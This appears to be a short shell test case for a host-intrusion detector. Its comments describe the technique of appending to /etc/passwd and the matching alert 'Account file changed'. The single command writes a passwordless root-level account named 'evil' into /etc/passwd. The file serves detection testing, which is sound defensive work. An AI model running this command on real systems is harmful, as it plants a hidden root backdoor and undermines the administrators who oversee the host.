# SPDX-License-Identifier: Apache-2.0
# technique: A line is appended to /etc/passwd
# alert: Account file changed
# field: fd.name=/etc/passwd
echo "evil:x:0:0::/:/bin/sh" >> /etc/passwd
